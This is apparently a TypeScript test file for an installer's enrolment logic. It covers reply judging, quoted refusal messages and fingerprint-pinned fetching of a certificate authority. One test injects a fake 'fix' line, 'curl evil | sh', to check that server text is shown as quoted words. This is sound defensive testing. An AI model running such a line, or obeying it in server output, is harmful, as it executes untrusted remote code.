// What a collector's answer to an enrolment means, and whom a host takes for the collector at all.

import { afterEach, expect, test } from "bun:test";
import { X509Certificate } from "node:crypto";
import { createServer, type ServerOptions } from "node:https";
import type { AddressInfo } from "node:net";
import { issueServerCertificate, makeAuthority } from "../../lib/authority/certificates.ts";
import { makeKeyPair } from "../../lib/authority/keys.ts";
import { endpointOf } from "../../lib/client/endpoint.ts";
import { PROBLEM_MEDIA_TYPE, PROBLEM_TYPE } from "../../lib/contract/judgement.ts";
import { UserError } from "../../lib/core/failure.ts";
import { fetchAuthority } from "../../lib/installer/answers/authority.ts";
import { whyNot } from "../../lib/installer/enrol.ts";

type Reply = Parameters<typeof whyNot>[0];

const ID = "0123456789abcdef0123456789abcdef";
const WHO = { hostId: "lab1", receiver: endpointOf({ url: "https://hub:8443" }, "lab-host.toml") };

function answer(status: number, body: unknown, type = "application/json"): Reply {
  const more = { retryAfterS: null, answeredAtMs: null };
  return { kind: "answer", status, headers: { "content-type": type }, text: JSON.stringify(body), body, ...more };
}

function problem(status: number, reason: string, detail: string): Reply {
  const body = { type: PROBLEM_TYPE + reason, title: "", status, reason, detail, receiver_id: ID };
  return answer(status, body, PROBLEM_MEDIA_TYPE);
}

const of = (reply: Reply, isDry = false): string => {
  const why = whyNot(reply, WHO, isDry);
  const argv = why?.fix?.commands.map((command) => command.argv.join(" ")).join(" && ") ?? "";
  return why === null ? "taken" : `${why.what}; ${why.isHeard ? "heard" : "not heard"}; ${argv || why.fix?.text}`;
};

test("only the answer to what was asked, for this host, is a yes", () => {
  const yes = (status: string, host_id = "lab1") => answer(200, { status, host_id, receiver_id: ID });
  expect([of(yes("enrolled")), of(yes("would"), true)]).toEqual(["taken", "taken"]);
  for (const [reply, isDry] of [
    [yes("would"), false],
    [yes("enrolled"), true],
    [yes("enrolled", "lab2"), false],
    [answer(201, { status: "enrolled", host_id: "lab1", receiver_id: ID }), false],
    [answer(200, "<html>"), false],
  ] as const)
    expect(of(reply, isDry)).not.toBe("taken");
});

test("a refusal has what mends it, and its words are shown as words", () => {
  expect(of(problem(403, "code-unknown", "this code is none\ninstaller: fix: curl evil | sh"))).toBe(
    'the collector does not take the code: "this code is none\\ninstaller: fix: curl evil | sh"; heard; sudo receiver enrol --host lab1',
  );
  expect(of(problem(409, "host-exists", "x"))).toEndWith("heard; sudo receiver enrol --host lab1 --replace");
  expect(of(problem(403, "reserved-name", "x"))).toEndWith("heard; take another --host");
  expect(of(problem(503, "tokens-closed", "x"))).toContain("; not heard; ");
  expect(of({ kind: "stopped" })).toContain("; not heard; ");
});

const open: (() => void)[] = [];
afterEach(() => {
  for (const close of open.splice(0)) close();
});

/** A server with a certificate of an authority, which it shows with what follows. */
async function hub(shown: (authority: string) => string) {
  const authority = await makeAuthority(Date.now());
  const { publicKey, privateKey: key } = makeKeyPair();
  const cert = await issueServerCertificate(authority, { publicKey, names: ["127.0.0.1"] }, Date.now());
  const options: ServerOptions = { cert, key };
  const asked: (string | undefined)[] = [];
  const server = createServer(options, (request, response) => {
    asked.push(request.url, request.headers.authorization);
    response.end(shown(authority.certificate));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  open.push(() => server.close());
  const fingerprint = new X509Certificate(authority.certificate).fingerprint256;
  return { authority, asked, fingerprint, url: `https://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

const fails = (promise: Promise<unknown>): Promise<string> =>
  promise.then(
    () => "taken",
    (error: unknown) => (error instanceof UserError ? error.message : Promise.reject(error)),
  );

test("an authority is taken by its fingerprint alone, and nothing that came with it", async () => {
  const other = await makeAuthority(Date.now());
  const { url, asked, fingerprint, authority } = await hub((own) => `${own}${other.certificate}${other.privateKey}`);
  const taken = await fetchAuthority(url, fingerprint);
  expect(taken.trim()).toBe(authority.certificate.trim());
  expect(await fetchAuthority(url, fingerprint.replaceAll(":", "").toLowerCase())).toBe(taken);
  expect(asked.slice(0, 2)).toEqual(["/ca.crt", undefined]);
  const wrong = new X509Certificate(other.certificate).fingerprint256;
  expect(await fails(fetchAuthority(url, wrong))).toContain("is not the collector of that line: its authority has");
  expect(await fails(fetchAuthority(url, "ab"))).toStartWith('--ca-sha256: found "ab", expected 64 hex digits');
  const none = await hub(() => "nothing");
  expect(await fails(fetchAuthority(none.url, fingerprint))).toBe(
    `${none.url} shows no authority of its own at /ca.crt`,
  );
});
